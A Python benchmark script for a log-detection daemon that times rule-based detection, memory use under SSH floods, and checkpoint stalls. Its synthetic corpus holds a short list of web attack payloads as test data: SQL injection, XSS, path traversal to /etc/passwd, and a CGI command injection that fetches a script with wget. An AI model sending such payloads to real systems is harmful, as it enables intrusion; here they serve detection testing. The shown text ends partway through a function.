"""Benchmark of the detection stage: cost per event against the rest of the pipeline,
and memory with a flood of distinct source addresses against the cap.

Usage:

    .venv/bin/python bench/bench_detect.py [--lines 100000] [--sources 1000000]
        [--cap-mb 256] [--model] [--json out.json]

1. Cost. A labelled line mix (web access with some attack payloads, SSH failures
   and logins, firewall drops, sudo, system messages with templates; source
   addresses drawn from a pool of 5,000, 2% of them attackers) goes through
   envelope parsing and `Event.apply` (the pipeline without the model), then
   through the shipped rule pack in batches of 512. Reported: microseconds per
   line of each, the share detection adds, and the CPU detection needs at
   10,000 lines/s. With `--model` the model's per-line cost on the same lines
   (exact-line cache cold, structure cache warm as in steady state) is measured
   and added to the pipeline's cost.
2. Memory. `--sources` failed SSH logins, each from a new address (the worst
   case: every event opens groups in several rules), through the shipped pack
   with the default cap. Reported: the detector's estimate, the process's RSS
   growth (an upper bound of what the state really holds), groups, evictions.
3. Saving (`--save-sources N`, 0 to skip). The state of N such sources (about
   four groups each, no memory cap; built directly, `build_state`: 300,000 sources,
   960,002 groups, in about 12 s, progress on stderr) is checkpointed while detection
   goes on, the
   same sources failing again (copy-on-write at work). Reported: what taking the
   checkpoint costs the detection thread, each batch's time without and during
   the save (the stall a checkpoint causes), the seconds until the file is
   written, its size; then a blocking `save_state()` (shutdown) and a restore
   (`--save-no-restore` skips both). `--save-repeats N` takes N periodic saves of the
   same state one after another. Each quiet batch over 50 ms during a save is matched
   with what it overlapped: garbage collections (generation, thread), waits for the
   detection lock (thread), slices serialized (thread), expiry and `malloc_trim`, in
   milliseconds, and the detection thread's page faults, its involuntary context switches
   (`preempted`: the machine's other work) and the writer thread's CPU meanwhile
   (`slowest_quiet_batches`, all of them summed in `slow_quiet_batches_summed`).
   RSS is reported before the saves and around each `malloc_trim`, with its duration.

4. The daemon (`--pipeline CORPUS`, a file of ../shared/bench, e.g. mixed200k):
   the real pipeline (file source, envelope, the shipped model, a JSON-lines
   event sink) over the corpus once, with detection off and on, alternating
   (`--pipeline-runs` each). Reported: the daemon's CPU per line from its first
   to its last event (start-up and shutdown left out), the medians and the
   share detection adds. This is the issue's measure: what detection adds to the
   pipeline's cost; the other parts of the cost are the pipeline's real ones,
   not an estimate of them.

5. The daemon at a given rate (`--rate LINES_PER_S` with `--pipeline CORPUS`), the
   issue's own measure ("at 10,000 lines/s"): a writer appends the corpus to a
   file at that rate, in 10 ms slices, while the daemon tails it (detection off,
   then on, alternating). Reported: the daemon's CPU seconds per second of a
   steady window (after `--rate-warmup` seconds) and its CPU per line in that
   window; with detection on, also each thread's CPU per line by its kernel name
   (`ls-detect` is the detection thread: what detection takes, measured apart from
   the noise in the other threads' share). At a fixed rate the model's
   micro-batches are the ones a server at that load sees, not the full ones of a
   flat-out replay.

6. Detection on real lines (`--labelled CORPUS`, a file of ../shared/bench, with
   `--labelled-lines N`): the first N lines of the corpus through envelope parsing
   and the shipped model once, then `Detector.process` alone over those events in
   batches of 512 (best of `--labelled-runs`), each event shape's selection function
   compiled first in an untimed pass (once in a daemon's life; that pass's seconds are
   reported). Reported: detection's CPU per line and
   its breakdown (selection functions, rule updates), without the daemon's
   threads and output around it: the part of `--pipeline`'s difference that is
   detection's own code.

`--rules DIR` runs another rule folder than the shipped pack (the same rules on
both sides of an A/B comparison while the pack is being edited).
"""

from __future__ import annotations

import argparse
import gc
import itertools
import json
import os
import random
import resource
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from logsentry.core.analysis import Analysis  # noqa: E402
from logsentry.core.collector import keep_survivors_frozen, use_daemon_thresholds  # noqa: E402
from logsentry.core.event import Event  # noqa: E402
from logsentry.detect.config import DetectionConfig  # noqa: E402
from logsentry.detect.detector import Detector  # noqa: E402
from logsentry.envelope import EnvelopeParser  # noqa: E402

BATCH = 512
PAGE = os.sysconf("SC_PAGE_SIZE")
# The rule folders to load (empty: the shipped pack); set by --rules.
RULES: list[str] = []


def detection_config(**kw: Any) -> DetectionConfig:
    return DetectionConfig(pack="none" if RULES else "default", extra_rules=RULES, **kw)


def rss_bytes() -> int:
    with open("/proc/self/statm") as handle:
        return int(handle.read().split()[1]) * PAGE


def _ip(rng: random.Random, pool: int) -> str:
    n = rng.randrange(pool)
    return f"198.{18 + n // 65536 % 2}.{n // 256 % 256}.{n % 256}"


URLS = ["/", "/index.html", "/static/app.js", "/api/items?page=2", "/login", "/img/logo.png",
        "/blog/2024/10/post", "/search?q=shoes", "/favicon.ico", "/robots.txt"]
ATTACKS = ["/item?id=1%27%20union%20select%20password%20from%20users--",
           "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/../../etc/passwd", "/.env", "/.git/config",
           "/cgi-bin/test?cmd=;wget%20http://x/a.sh", "/wp-login.php"]
USERS = ["root", "admin", "alice", "bob", "deploy", "oracle", "test", "ubuntu"]


def corpus_start() -> datetime:
    """March 1st of the year envelope parsing gives a syslog stamp without one
    ("Mar 01 00:00:00": the latest such date not in the future), so that those lines
    and the access-log lines, which carry their year, run on one clock. (A fixed
    year put the two a year apart: every access-log group was a year behind the
    watermark, expired at each expiry pass and raised its alert again.)"""
    now = datetime.now(UTC)
    start = datetime(now.year, 3, 1, tzinfo=UTC)
    return start if start - now <= timedelta(days=1) else start.replace(year=now.year - 1)


def make_corpus(count: int, seed: int = 7) -> list[tuple[str, Analysis]]:
    """Lines with the labels the analyzer would give them (no model needed)."""
    rng = random.Random(seed)
    out: list[tuple[str, Analysis]] = []
    start = corpus_start().timestamp()
    for i in range(count):
        when = datetime.fromtimestamp(start + i / 100, UTC)
        stamp = when.strftime("%b %d %H:%M:%S")
        clf = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
        attacker = rng.random() < 0.02
        ip = _ip(rng, 100) if attacker else _ip(rng, 5000)
        kind = rng.random()
        if kind < 0.5:
            url = rng.choice(ATTACKS) if attacker else rng.choice(URLS)
            status = 404 if attacker and rng.random() < 0.7 else rng.choice((200, 200, 304, 404))
            line = (f'{ip} - - [{clf}] "GET {url} HTTP/1.1" {status} 512 "-" '
                    f'"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"')
            out.append((line, Analysis("web_request", {}, "<ip> - - [<*>] \"GET <*>\" <*>", 0.99)))
        elif kind < 0.7:
            user = rng.choice(USERS)
            port = rng.randrange(1024, 65535)
            if rng.random() < 0.8:
                line = (f"{stamp} web-1 sshd[{1000 + i % 5000}]: Failed password for {user} "
                        f"from {ip} port {port} ssh2")
                analysis = Analysis("ssh_login_failed", {"user.name": user, "source.ip": ip,
                                                         "source.port": str(port)},
                                    "Failed password for <*> from <*> port <*> ssh2", 0.99)
            else:
                line = (f"{stamp} web-1 sshd[{1000 + i % 5000}]: Accepted publickey for {user} "
                        f"from {ip} port {port} ssh2")
                analysis = Analysis("ssh_login_success", {"user.name": user, "source.ip": ip,
                                                          "source.port": str(port)},
                                    "Accepted publickey for <*> from <*> port <*> ssh2", 0.99)
            out.append((line, analysis))
        elif kind < 0.8:
            dport = rng.randrange(1, 1024) if attacker else rng.choice((22, 80, 443))
            line = (f"{stamp} fw-1 kernel: [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST=10.0.0.1 "
                    f"PROTO=TCP SPT=4444 DPT={dport}")
            out.append((line, Analysis("firewall_drop", {"source.ip": ip, "destination.ip":
                                                         "10.0.0.1", "destination.port":
                                                         str(dport)},
                                       "[UFW BLOCK] IN=<*> SRC=<*> DST=<*> DPT=<*>", 0.99)))
        elif kind < 0.85:
            user = rng.choice(USERS)
            line = (f"{stamp} web-1 sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
                    f"COMMAND=/usr/bin/systemctl restart nginx")
            out.append((line, Analysis("sudo_command", {"user.name": user,
                                                        "user.effective.name": "root"},
                                       "<*> : TTY=<*> ; PWD=<*> ; USER=<*> ; COMMAND=<*>", 0.99)))
        else:
            n = rng.randrange(40)
            line = f"{stamp} web-1 systemd[1]: Started session {i} of user u{n} (template {n})."
            out.append((line, Analysis("other", {}, f"Started session <*> of user <*> {n}.",
                                       0.9)))
    return out


def pipeline_events(corpus: list[tuple[str, Analysis]]) -> tuple[list[Event], float]:
    """Envelope parsing + applying labels, as the pipeline does; seconds taken."""
    parser = EnvelopeParser(tz=UTC)
    started = time.process_time()
    events = []
    for line, analysis in corpus:
        event = parser.parse(line, time.time())
        event.apply(analysis)
        events.append(event)
    return events, time.process_time() - started


def model_seconds(lines: list[str]) -> float | None:
    try:
        from logsentry.analysis.tagger import load_analyzer

        analyzer = load_analyzer(threads=1)
    except Exception as exc:  # no model built yet
        print(f"model not available ({exc}); pipeline cost excludes the model", file=sys.stderr)
        return None
    parser = EnvelopeParser(tz=UTC)
    bodies = [parser.parse(line, 0.0).body for line in lines]
    analyzer.analyze_batch(bodies[:2000])  # warm the structure cache on a slice
    started = time.process_time()
    for begin in range(0, len(bodies), 64):
        analyzer.analyze_batch(bodies[begin:begin + 64])
    # CPU time of all the process's threads: torch may use several.
    return time.process_time() - started


def compile_shapes(detector: Detector, events: list[Event]) -> float:
    """Run the selection functions once over `events` (they keep no state); CPU seconds.

    Each event shape's selection function is compiled on the first event of that
    shape, once in a daemon's life: done before a timing, the timing is the steady
    state's.
    """
    started = time.process_time()
    index = detector._by_action
    for event in events:
        entry = index.get(event.action)
        if entry is not None:
            entry[0](event)
    return time.process_time() - started


def bench_cost(lines: int, with_model: bool, repeats: int = 3) -> dict[str, Any]:
    corpus = make_corpus(lines)
    # CPU time (not wall time), best of `repeats` for each part, interleaved: the
    # machine is shared, and this is the figure least disturbed by neighbours.
    envelope_runs, detect_runs = [], []
    alerts = 0
    detector = Detector.from_config(detection_config(), None)
    for _ in range(repeats):
        events, envelope_s = pipeline_events(corpus)
        envelope_runs.append(envelope_s)
        detector = Detector.from_config(detection_config(), None)
        compile_shapes(detector, events)
        gc.collect()
        # The corpus is alive all along here, unlike in the pipeline, where a few
        # batches are: keep it out of the collector's way so that collections
        # cost what detection's own objects make them cost.
        gc.freeze()
        started = time.process_time()
        alerts = 0
        for begin in range(0, len(events), BATCH):
            alerts += len(detector.process(events[begin:begin + BATCH]))
        detect_runs.append(time.process_time() - started)
        gc.unfreeze()
    envelope_s, detect_s = min(envelope_runs), min(detect_runs)
    model_s = model_seconds([line for line, _ in corpus]) if with_model else None
    pipeline_s = envelope_s + (model_s or 0.0)
    per_line = {
        "envelope_apply_us": envelope_s / lines * 1e6,
        "model_us": (model_s / lines * 1e6) if model_s is not None else None,
        "detection_us": detect_s / lines * 1e6,
    }
    return {
        "lines": lines,
        "rules": len(detector.rules),
        "alerts": alerts,
        **{k: (round(v, 2) if v is not None else None) for k, v in per_line.items()},
        "detection_share_of_pipeline_without_detection": round(detect_s / pipeline_s, 4),
        "pipeline_includes_model": model_s is not None,
        "detection_cpu_at_10k_lines_s": round(detect_s / lines * 10_000, 4),
        "groups": detector.group_count,
        "state_estimate_mb": round(detector.memory_bytes / 2**20, 2),
    }


def flood(sources: int, first: int = 0, rate: float = 10_000) -> Iterator[list[Event]]:
    """Batches of failed SSH logins, each from a new address, `rate` a second."""
    parser = EnvelopeParser(tz=UTC)
    start = flood_start()
    batch: list[Event] = []
    for n in range(first, first + sources):
        ip = source_ip(n)
        when = datetime.fromtimestamp(start + n / rate, UTC)
        line = (f"{when:%b %d %H:%M:%S} web-1 sshd[{n % 30000}]: Failed password for root "
                f"from {ip} port 4711 ssh2")
        event = parser.parse(line, start + n / rate)
        event.apply(Analysis("ssh_login_failed", {"user.name": "root", "source.ip": ip},
                             "Failed password for <*> from <*> port <*> ssh2", 0.99))
        batch.append(event)
        if len(batch) == BATCH:
            yield batch
            batch = []
    if batch:
        yield batch


def bench_memory(sources: int, cap_mb: int) -> dict[str, Any]:
    detector = Detector.from_config(detection_config(memory_cap_mb=cap_mb), None)
    gc.collect()
    rss_before = rss_bytes()
    peak_estimate = 0
    started = time.process_time()
    for batch in flood(sources):
        detector.process(batch)
        peak_estimate = max(peak_estimate, detector.memory_bytes)
    seconds = time.process_time() - started
    gc.collect()
    rss_after = rss_bytes()
    return {
        "sources": sources,
        "cap_mb": cap_mb,
        "estimate_mb": round(detector.memory_bytes / 2**20, 1),
        "peak_estimate_mb": round(peak_estimate / 2**20, 1),
        "rss_growth_mb": round((rss_after - rss_before) / 2**20, 1),
        "groups": detector.group_count,
        "evictions": detector.evictions,
        # CPU per event, envelope parsing and labelling included.
        "cpu_us_per_event": round(seconds / sources * 1e6, 2),
    }


# Sources of a direct build (`build_state`) that go through `Detector.process`; the
# rest of the state is copies of their groups.
TEMPLATE_SOURCES = 4096


def source_ip(n: int) -> str:
    """The address of the `n`th source of `flood`."""
    return f"{10 + n // 16777216}.{n // 65536 % 256}.{n // 256 % 256}.{n % 256}"


def build_state(detector: Detector, sources: int, rate: float) -> None:
    """The state `flood(sources, rate=rate)` through `detector.process` leaves, built
    directly: the first TEMPLATE_SOURCES sources go through `process`, each later
    source's groups are copies of those of the template source `n % TEMPLATE_SOURCES`,
    re-keyed to its address (in their samples too), their times shifted to its
    arrival, appended in arrival order; then what has expired by the last arrival is
    dropped. The groups, their contents and their order are those of the flood; it
    takes seconds where `process` took minutes at a million groups. Progress on stderr."""
    began = time.perf_counter()
    template = min(sources, TEMPLATE_SOURCES)
    for batch in flood(template, rate=rate):
        detector.process(batch)
    # Per rule, template source -> its group (a source opens at most one per rule).
    by_source: list[dict[int, Any]] = []
    for engine in detector.engines:
        found: dict[int, Any] = {}
        for group in engine.groups.values():
            for value in group.key:
                if value is not None and value.startswith("10."):
                    a, b, c, d = (int(part) for part in value.split("."))
                    found[(a - 10) * 16777216 + b * 65536 + c * 256 + d] = group
        by_source.append(found)
    seq = detector._seq
    collecting = gc.isenabled()
    gc.disable()  # a million new groups: no collection visits them on the way
    try:
        for n in range(template, sources):
            m = n % template
            old_ip, new_ip = source_ip(m), source_ip(n)
            shift = (n - m) / rate
            for engine, found in zip(detector.engines, by_source, strict=True):
                origin = found.get(m)
                if origin is None:
                    continue
                group = origin.frozen_copy()
                key = origin.group_key
                group.group_key = (new_ip if key == old_ip else tuple(
                    new_ip if v == old_ip else v for v in key) if isinstance(key, tuple)
                    else key)
                group.first += shift
                group.last += shift
                if group.times is not None:
                    group.times = tuple(t + shift for t in group.times)
                if group.values is not None:
                    group.values = {k: v + shift for k, v in group.values.items()}
                if group.suppressed_until:
                    group.suppressed_until += shift
                if group.learn_until:
                    group.learn_until += shift
                if group.samples is not None:
                    group.samples = tuple(
                        tuple(v.replace(old_ip, new_ip) if isinstance(v, str) else v
                              for v in sample) for sample in group.samples)
                seq += 1
                group.touched = seq
                engine.groups[group.group_key] = group
                engine.memory_bytes += group.size
            if n % 100_000 == 0:
                progress(f"built {n:,} of {sources:,} sources, {detector.group_count:,} groups",
                         began)
    finally:
        if collecting:
            gc.enable()
    detector._seq = seq
    watermark = flood_start() + (sources - 1) / rate
    detector.watermark = max(detector.watermark, watermark)
    dropped = detector.expire(detector.watermark, 1 << 62)
    progress(f"built {detector.group_count:,} groups ({dropped:,} expired)", began)


def flood_start() -> float:
    return datetime(2025, 3, 1, tzinfo=UTC).timestamp()


def progress(what: str, since: float) -> None:
    print(f"[{time.perf_counter() - since:7.1f} s] {what}", file=sys.stderr, flush=True)


class StallLog:
    """What a slow batch overlapped during a save: each garbage collection (its thread and
    generation), each wait for the detection lock over half a millisecond, each
    `malloc_trim` and each expiry that dropped groups, as (start, end, what) in
    `time.perf_counter()` seconds."""

    def __init__(self) -> None:
        self.spans: list[tuple[float, float, str]] = []
        self._gc_start: dict[int, tuple[float, float]] = {}
        # Per collection kind, (count, max wall s, max CPU s): a wall time well above
        # the CPU is time the collecting thread was off the processor.
        self.collections: dict[str, tuple[int, float, float]] = {}

    def on_gc(self, phase: str, info: dict[str, Any]) -> None:
        now = time.perf_counter()
        ident = threading.get_ident()
        if phase == "start":
            self._gc_start[ident] = (now, time.thread_time())
            return
        started = self._gc_start.pop(ident, None)
        if started is not None:
            began, began_cpu = started
            what = f"gc{info['generation']}:{threading.current_thread().name}"
            self.spans.append((began, now, what))
            count, wall, cpu = self.collections.get(what, (0, 0.0, 0.0))
            self.collections[what] = (count + 1, max(wall, now - began),
                                      max(cpu, time.thread_time() - began_cpu))

    def timed(self, name: str, function: Callable[[], Any]) -> Callable[[], Any]:
        def wrapper() -> Any:
            began = time.perf_counter()
            try:
                return function()
            finally:
                self.spans.append((began, time.perf_counter(), name))
        return wrapper

    def overlap(self, start: float, end: float) -> dict[str, float]:
        """Milliseconds of each kind of span inside [start, end]."""
        found: dict[str, float] = {}
        for began, ended, what in self.spans:
            shared = min(end, ended) - max(start, began)
            if shared > 0:
                found[what] = round(found.get(what, 0.0) + shared * 1000, 1)
        return found


class TimedLock:
    """The detection lock, logging waits for it over half a millisecond to a StallLog."""

    def __init__(self, lock: Any, stalls: StallLog) -> None:
        self._lock = lock
        self._stalls = stalls

    def acquire(self, blocking: bool = True, timeout: float = -1) -> bool:
        began = time.perf_counter()
        got: bool = self._lock.acquire(blocking, timeout)
        ended = time.perf_counter()
        if ended - began > 0.0005:
            self._stalls.spans.append((began, ended,
                                       f"lock-wait:{threading.current_thread().name}"))
        return got

    def release(self) -> None:
        self._lock.release()

    def __enter__(self) -> bool:
        return self.acquire()

    def __exit__(self, *exc: object) -> None:
        self.release()


def bench_save(sources: int, repeats: int = 1, restore: bool = True) -> dict[str, Any]:
    """A checkpoint of a large state while detection goes on, then shutdown and restore.

    The detection thread's pause is what matters: each batch's time is measured
    without a checkpoint, then while one is taken and written (the writer thread
    competes for the interpreter lock, and the batches touch groups the checkpoint
    holds, so copy-on-write runs), with the daemon's switch interval.
    """
    began = time.perf_counter()
    sys.setswitchinterval(0.02)  # as the daemon sets it
    keep_survivors_frozen()  # as the daemon does
    use_daemon_thresholds()
    with tempfile.TemporaryDirectory() as folder:
        state_dir = Path(folder)
        # No eviction: the point is the size of what is saved.
        config = detection_config(persist_interval=0.001, memory_cap_mb=1 << 16)
        detector = Detector.from_config(config, state_dir)
        # Five minutes of lines per 45,000 sources: few groups expire during the save.
        build_state(detector, sources, 150)
        groups = detector.group_count
        path = state_dir / "detection.json"
        # The same sources failing again: every batch touches groups the checkpoint holds.
        again = itertools.cycle(list(flood(min(sources, 200_000), rate=150)))
        progress("events to feed during the saves made", began)
        # Those events are alive all along here, unlike in the pipeline, where a few
        # batches are: out of the collector's way (its first full collection visited
        # them all, a 250 ms batch), as in bench_cost.
        gc.collect()
        gc.freeze()

        ticks: list[float] = []
        next_tick = [time.monotonic() + 1.0]

        cpu: list[tuple[float, bool]] = []
        # (start, end) of each batch during a save, beside `during`: matched to the stalls.
        spans: list[tuple[float, float]] = []
        # Beside them, the detection thread's page faults and context switches in each
        # batch, and the writer thread's CPU ms meanwhile: it runs Python (serializes
        # a slice, collects) only while it holds the interpreter lock.
        counters: list[dict[str, float]] = []
        writer_clock: list[int] = []
        writer_seconds = [0.0]
        stalls = StallLog()
        # Each slice serialized, and by which thread (the writer holds the interpreter
        # lock all along: orjson does not release it).
        from logsentry.detect.detector import Checkpoint
        def logged(serialize: Callable[[Checkpoint], None]) -> Callable[[Checkpoint], None]:
            def wrapper(self: Checkpoint) -> None:
                began = time.perf_counter()
                try:
                    serialize(self)
                finally:
                    stalls.spans.append((began, time.perf_counter(),
                                         f"slice:{threading.current_thread().name}"))
            return wrapper
        for name in ("_walk_slice", "_aside_slice"):
            setattr(Checkpoint, name, logged(getattr(Checkpoint, name)))
        detector._lock = TimedLock(detector._lock, stalls)  # type: ignore[assignment]
        expire = detector.expire

        def timed_expire(event_now: float, budget: int, seconds: float | None = None) -> int:
            """Expiry (in a batch every EXPIRE_EVERY events, and in the tick), logged."""
            began = time.perf_counter()
            dropped = expire(event_now, budget, seconds)
            if dropped:
                stalls.spans.append((began, time.perf_counter(), "expiry"))
            return dropped
        detector.expire = timed_expire  # type: ignore[method-assign]
        import logsentry.detect.detector as detector_module
        trim = stalls.timed("malloc_trim", detector_module.release_free_memory)
        # RSS before and after each malloc_trim (once a save is written), and its ms.
        trims: list[tuple[int, int, float]] = []

        def measured_trim() -> bool:
            before, began = rss_bytes(), time.perf_counter()
            released = bool(trim())
            trims.append((before, rss_bytes(), time.perf_counter() - began))
            return released
        detector_module.release_free_memory = measured_trim  # type: ignore[assignment]

        def timed_batch() -> tuple[float, bool]:
            """One batch, and the tick after it once a second, as the pipeline's detection
            thread runs them; the batch's seconds (the tick's go to `ticks`, the thread's
            CPU seconds to `cpu`), and whether it raised alerts (a batch whose sources all
            cross a threshold again builds 512 alerts, 50 to 100 ms of detection's own
            work, save or not)."""
            batch = next(again)
            usage = resource.getrusage(resource.RUSAGE_THREAD)
            writer_before = writer_cpu()
            begun = time.perf_counter()
            begun_cpu = time.thread_time()
            alerted = bool(detector.process(batch))
            ended = time.perf_counter()
            took = ended - begun
            cpu.append((time.thread_time() - begun_cpu, alerted))
            spans.append((begun, ended))
            after = resource.getrusage(resource.RUSAGE_THREAD)
            counters.append({
                "minor_faults": after.ru_minflt - usage.ru_minflt,
                "major_faults": after.ru_majflt - usage.ru_majflt,
                "preempted": after.ru_nivcsw - usage.ru_nivcsw,
                "waits": after.ru_nvcsw - usage.ru_nvcsw,
                "writer_cpu_ms": round((writer_cpu() - writer_before) * 1000, 1)})
            if time.monotonic() >= next_tick[0]:
                next_tick[0] = time.monotonic() + 1.0
                begun = time.perf_counter()
                detector.tick(time.time())
                ticks.append(time.perf_counter() - begun)
            return took, alerted

        def writer_cpu() -> float:
            """The checkpoint writer thread's CPU seconds so far (its last reading once it
            has ended, 0 without one)."""
            if writer_clock:
                try:
                    writer_seconds[0] = time.clock_gettime(writer_clock[0])
                except OSError:  # the writer has ended
                    writer_clock.clear()
            return writer_seconds[0]

        gc.callbacks.append(stalls.on_gc)
        baseline = [timed_batch() for _ in range(200)]
        counters.clear()
        ticks_without = sorted(ticks)
        ticks.clear()
        cpu_without = list(cpu)
        cpu.clear()
        spans.clear()
        stalls.spans.clear()
        stalls.collections.clear()
        rss_before = rss_bytes()
        metric_before = save_seconds_metric()
        during: list[tuple[float, bool]] = []
        pauses: list[float] = []
        written: list[float] = []
        per_save: list[list[float] | None] = []
        for _ in range(repeats):
            detector._last_save -= 3600  # due now
            begun = time.perf_counter()
            checkpoint = detector.begin_checkpoint()
            pauses.append(time.perf_counter() - begun)
            assert checkpoint is not None
            started = time.perf_counter()
            detector.write_checkpoint(checkpoint, {})
            writer_seconds[0] = 0.0
            writer_clock[:] = [time.pthread_getcpuclockid(detector._writer.ident)
                               ] if detector._writer and detector._writer.ident else []
            this_save: list[tuple[float, bool]] = []
            shown = time.perf_counter()
            while detector.saving:
                this_save.append(timed_batch())
                if time.perf_counter() - shown >= 10:
                    shown = time.perf_counter()
                    progress(f"save {len(written) + 1}: {len(this_save):,} batches, quiet ms "
                             f"p50/p99/max {_p50_p99_max(this_save, quiet=True)}", began)
            writer_clock.clear()
            written.append(time.perf_counter() - started)
            per_save.append(_p50_p99_max(this_save, quiet=True))
            during += this_save
        gc.callbacks.remove(stalls.on_gc)
        # What /metrics shows of the saves (logsentry_detection_state_save_seconds).
        metric_seconds = save_seconds_metric() - metric_before
        # Every collection during the saves, by generation and thread: count, max wall
        # and CPU ms.
        collections = {what: [count, round(wall * 1000, 1), round(used * 1000, 1)]
                       for what, (count, wall, used) in stalls.collections.items()}
        # The slow quiet batches during the saves, with what they overlapped.
        # Each with the detection thread's CPU ms in it: the rest is time the machine's
        # other threads and processes took.
        slow = sorted(((end - start, start, end, used, count) for (start, end), (_, alerted),
                       (used, _), count in zip(spans, during, cpu, counters, strict=True)
                       if not alerted and end - start > 0.05), key=lambda s: s[0], reverse=True)
        slow_batches = [{"ms": round(took * 1000, 1), "cpu_ms": round(used * 1000, 1), **count,
                         **stalls.overlap(start, end)}
                        for took, start, end, used, count in slow[:12]]
        # What all the slow ones overlapped, summed (ms; counts for the counters).
        slow_total: dict[str, float] = {}
        for took, start, end, used, count in slow:
            for what, amount in [("ms", took * 1000), ("cpu_ms", used * 1000),
                                 *count.items(), *stalls.overlap(start, end).items()]:
                slow_total[what] = round(slow_total.get(what, 0.0) + amount, 1)
        # The quiet batches that took the most CPU, with what they overlapped.
        costly = sorted(((used, start, end, count) for (start, end), (_, alerted), (used, _),
                         count in zip(spans, during, cpu, counters, strict=True) if not alerted),
                        key=lambda c: c[0], reverse=True)
        costly_batches = [{"cpu_ms": round(used * 1000, 1), **count,
                           **stalls.overlap(start, end)} for used, start, end, count in costly[:8]]
        size = path.stat().st_size
        blocking_s = restore_s = 0.0
        restored_groups = 0
        if restore:
            begun = time.perf_counter()
            detector.save_state()
            blocking_s = time.perf_counter() - begun
            begun = time.perf_counter()
            restored_groups = Detector.from_config(config, state_dir).group_count
            restore_s = time.perf_counter() - begun
    return {
        "groups": groups,
        "file_mb": round(size / 2**20, 1),
        "batch_events": BATCH,
        "saves": repeats,
        "begin_checkpoint_ms": [round(p * 1000, 1) for p in pauses],
        "batch_ms_without_save_p50_p99_max": _p50_p99_max(baseline),
        "batch_ms_during_save_p50_p99_max": _p50_p99_max(during),
        # The same without the batches that raised alerts: what the save adds.
        "quiet_batch_ms_without_save_p50_p99_max": _p50_p99_max(baseline, quiet=True),
        "quiet_batch_ms_during_save_p50_p99_max": _p50_p99_max(during, quiet=True),
        "quiet_batch_ms_per_save_p50_p99_max": per_save,
        # The detection thread's CPU time per quiet batch: what the save makes it do
        # (its share of the walk, copy-on-write, collections), without the time a
        # shared machine's other processes take from it.
        "quiet_batch_cpu_ms_without_save_p50_p99_max": _p50_p99_max(cpu_without, quiet=True),
        "quiet_batch_cpu_ms_during_save_p50_p99_max": _p50_p99_max(cpu, quiet=True),
        "batches_during_save": len(during),
        "quiet_batches_over_50ms": len(slow),
        # The slowest of them: their ms and the ms of each stall inside them (garbage
        # collections by generation and thread, lock waits by thread, malloc_trim).
        "slowest_quiet_batches": slow_batches,
        "slow_quiet_batches_summed": slow_total,
        "collections_during_saves_count_max_ms_max_cpu_ms": collections,
        "costliest_quiet_batches": costly_batches,
        "alerting_batches_without_during_save": [sum(a for _, a in baseline),
                                                 sum(a for _, a in during)],
        # The detection thread's tick (expiry, and freezing the state that survived
        # out of the collector's full collections) once a second.
        "tick_ms_without_save_p50_max": _p50_max(ticks_without),
        "tick_ms_during_save_p50_max": _p50_max(sorted(ticks)),
        "checkpoint_written_s": [round(w, 2) for w in written],
        "metrics_save_seconds_sum": round(metric_seconds, 2),
        # RSS before the saves, then before and after each malloc_trim, and its ms.
        "rss_mb_before_saves": round(rss_before / 2**20, 1),
        "trims_rss_mb_before_after_ms": [[round(b / 2**20, 1), round(a / 2**20, 1),
                                          round(ms * 1000, 1)] for b, a, ms in trims],
        "blocking_save_s": round(blocking_s, 2),
        "restore_s": round(restore_s, 2),
        "restored_groups": restored_groups,
    }


def save_seconds_metric() -> float:
    """The sum of `logsentry_detection_state_save_seconds` so far."""
    from logsentry.core.metrics import REGISTRY

    return REGISTRY.get_sample_value("logsentry_detection_state_save_seconds_sum") or 0.0


def _p50_p99_max(batches: list[tuple[float, bool]], quiet: bool = False) -> list[float] | None:
    """The median, 99th percentile and maximum of batch times in milliseconds (of the
    batches that raised no alert, if `quiet`)."""
    seconds = sorted(took for took, alerted in batches if not (quiet and alerted))
    if not seconds:
        return None
    return [round(seconds[len(seconds) // 2] * 1000, 2),
            round(seconds[int(len(seconds) * 0.99)] * 1000, 2), round(seconds[-1] * 1000, 2)]


def _p50_max(seconds: list[float]) -> list[float] | None:
    """The median and the maximum of sorted durations, in milliseconds."""
    if not seconds:
        return None
    return [round(seconds[len(seconds) // 2] * 1000, 2), round(seconds[-1] * 1000, 2)]


def cpu_seconds(pid: int) -> float:
    """User and system CPU of a running process (all its threads)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def thread_cpu_seconds(pid: int) -> dict[str, float]:
    """CPU seconds of a running process's threads, summed by kernel name (the daemon
    names its workers: ls-analysis, ls-detect; the event loop is `python`)."""
    totals: dict[str, float] = {}
    for task in Path(f"/proc/{pid}/task").iterdir():
        try:
            name = (task / "comm").read_text().strip()
            fields = (task / "stat").read_text().rsplit(")", 1)[1].split()
        except (FileNotFoundError, ProcessLookupError):
            continue  # a thread that ended meanwhile
        seconds = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
        totals[name] = totals.get(name, 0.0) + seconds
    return totals


def daemon_cpu_per_line(corpus: Path, detection: bool) -> float:
    """CPU µs per line of the daemon over `corpus`, from its first event to its last."""
    sys.path.insert(0, str(REPO / "bench"))
    from bench_pipeline import count_lines, start_daemon

    with tempfile.TemporaryDirectory(prefix="logsentry-bench-") as folder:
        work = Path(folder)
        out = work / "out.jsonl"
        total = count_lines(corpus)
        daemon = start_daemon(work, corpus, out, "model", detection, "beginning")
        try:
            while not out.exists() or out.stat().st_size == 0:
                time.sleep(0.005)
            first_cpu, first_lines = cpu_seconds(daemon.pid), count_lines(out)
            done = first_lines
            while done < total:
                time.sleep(0.05)
                done = count_lines(out)
            cpu = cpu_seconds(daemon.pid) - first_cpu
        finally:
            daemon.terminate()
            daemon.wait(60)
    return cpu / (done - first_lines) * 1e6


def daemon_cpu_at_rate(corpus: Path, detection: bool, rate: int,
                       warmup: float) -> tuple[float, dict[str, float]]:
    """CPU µs per line of the daemon tailing a file appended to at `rate` lines/s, in
    all and per thread name.

    Measured over a steady window: from `warmup` seconds after the first line is
    written to the end of the corpus (what the daemon still has in flight then is
    counted by lines written out, not by lines offered).
    """
